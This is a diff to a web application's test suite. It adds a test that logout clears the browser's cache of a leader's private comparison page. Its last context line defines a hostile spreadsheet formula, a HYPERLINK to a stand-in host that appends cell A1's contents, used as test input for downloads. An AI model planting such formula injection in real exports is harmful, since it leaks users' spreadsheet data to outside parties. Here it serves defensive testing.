@@ -136,6 +136,17 @@ def test_304s_and_revalidated_pages_stay_private(client, public):
     assert response.content == b""
 
 
+def test_logout_clears_the_browsers_cache_of_the_site(client, public, member):
+    """A leder's comparison page is kept by the browser (``private, no-cache``); after logout on a shared PC the
+    Back button showed it from the cache. Logout now sends ``Clear-Site-Data: "cache"``."""
+    client.force_login(member("Leder", public))
+    assert client.get("/kommune/165/sammenligning/")["Cache-Control"] == "private, no-cache"
+    response = client.post("/konto/logout/")
+    assert response.status_code == 302
+    assert response["Clear-Site-Data"] == '"cache"'
+    assert "no-store" in response["Cache-Control"]
+
+
 # --- 3. hostile text in the new downloads ----------------------------------------------------------------------------
 
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"klik")'
